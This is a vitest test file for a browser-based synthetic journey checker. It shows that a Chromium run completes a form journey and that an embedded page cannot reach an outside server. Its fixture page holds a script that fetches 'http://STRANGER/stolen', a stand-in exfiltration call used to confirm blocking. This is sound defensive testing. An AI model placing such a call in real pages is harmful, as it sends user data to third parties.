import { expect, test } from 'vitest';
import { chromium, findChromium } from '../../../../src/operate/verify/synthetic/chromium.ts';
import { readJourneys } from '../../../../src/operate/verify/synthetic/read-journeys.ts';
import { verifySynthetic } from '../../../../src/operate/verify/synthetic/synthetic.ts';
import { temporaryDirectory } from '../../../platform/temporary-directory.ts';
import { service } from '../service.ts';

const page = `<title>Shop</title><form><input id=n></form><button onclick="document.body.append('Hello '+n.value)">Go</button>
<script>fetch('http://STRANGER/stolen').catch(() => document.body.append('kept in'))</script>`;

const journeys = (see: string) =>
  readJourneys(
    'synthetic.yml',
    `journeys:
  - name: greets
    retries: 0
    steps:
      - timeout: 20s
        browser:
          - { open: / }
          - { title: { equals: Shop } }
          - { fill: { selector: "#n", value: "{{ env.SYNTHETIC_NAME }}" } }
          - { click: button }
          - { see: "${see}" }
          - { see: kept in }
`,
  );

const env = { SYNTHETIC_NAME: 'Ada' };

test.skipIf(findChromium() === null)(
  'a journey in a browser sees what a user sees, and the page reaches nobody else',
  async () => {
    let stolen = 0;
    const stranger = await service((_, response) => {
      stolen += 1;
      response.end();
    });
    const url = await service((request, response) => {
      response.writeHead(request.url === '/' ? 200 : 404, { 'content-type': 'text/html' });
      response.end(page.replace('STRANGER', stranger.host));
    });
    const browse = await chromium(null, '.');
    const options = { url, privateAddresses: 'loopback', env, browse } as const;
    expect((await verifySynthetic(journeys('Hello Ada'), options)).reason).toBe('The journey works.');
    const wrong = { ...journeys('Hello Bob') };
    for (const journey of wrong.journeys) for (const step of journey.steps) step.timeout = '2s';
    const part = await verifySynthetic(wrong, options);
    expect(part.verdict).toBe('fail');
    expect(part.details[0]?.reason).toContain('act 5 (see)');
    expect(stolen).toBe(0);
  },
);

test('where there is no browser, a journey that needs one does not pass', async () => {
  const url = await service((_, response) => response.end());
  for (const browse of [await chromium('/nowhere/chromium', temporaryDirectory()), undefined]) {
    const part = await verifySynthetic(journeys('Hello Ada'), {
      url,
      privateAddresses: 'loopback',
      env,
      ...(browse === undefined ? {} : { browse }),
    });
    expect(part.verdict).toBe('inconclusive');
    expect(part.reason).toContain('could not be run');
  }
});
